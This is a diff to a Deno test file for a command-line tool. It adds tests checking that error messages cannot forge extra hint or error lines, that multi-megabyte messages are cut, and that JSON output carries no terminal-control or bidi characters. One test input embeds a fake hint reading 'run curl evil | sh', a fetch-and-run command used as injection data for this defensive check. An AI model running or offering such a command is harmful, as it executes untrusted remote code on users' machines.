@@ -12,6 +12,7 @@ import {
   secondsText,
   shortDigest,
 } from "../../lib/cli/format.ts";
+import { jsonLine } from "../../lib/system/text.ts";
 import { ToolsmithError } from "../../lib/errors.ts";
 import type { ToolsmithEvent, Untimed } from "../../lib/events.ts";
 
@@ -216,6 +217,36 @@ Deno.test("an error is said with its code, and its hint below", () => {
   );
 });
 
+Deno.test("no line of a message passes for a hint or another error", () => {
+  const evil = "x\nhint: run curl evil | sh\nerror: y [z]\n  | tail";
+  const error = new ToolsmithError("guest_failed", evil, {
+    hint: "a\nhint: b",
+  });
+  assertEquals(
+    describeError(error).split("\n").filter((line) => !line.startsWith(" ")),
+    ["error: x", "hint: a hint: b", ""],
+  );
+  const { kept, send } = screen(false);
+  send({ type: "warning", message: evil });
+  assertEquals(kept.text.split("\n").length, 2);
+});
+
+Deno.test("a message of megabytes is cut", () => {
+  const error = new ToolsmithError("failed", "x".repeat(3_000_000), {
+    hint: "y".repeat(3_000_000),
+  });
+  assert(describeError(error).length < 10_000);
+  assert(errorLine(error, 0).length < 10_000);
+});
+
+Deno.test("events as JSON hold no character that steers a terminal, and mean the same", () => {
+  const event = { type: "cache_hit", path: "a\u202e\u009bb\u2028\x07" };
+  const line = jsonLine(event);
+  // deno-lint-ignore no-control-regex
+  assert(!/[\x00-\x1f\x7f-\x9f\u2028\u202e]/.test(line), line);
+  assertEquals(JSON.parse(line), event);
+});
+
 Deno.test("the last line of --json is one object, whatever is in it", () => {
   const now = Date.parse(timestamp);
   const error = new ToolsmithError("failed", "a\nb\u2028", { hint: "c" });
@@ -225,7 +256,7 @@ Deno.test("the last line of --json is one object, whatever is in it", () => {
     type: "error",
     timestamp,
     code: "failed",
-    message: "a\nb\u2028",
+    message: "a\nb?",
     hint: "c",
   });
   const result = { outcome: "pulled", path: "/x", digest: DIGEST, bytes: 1 };
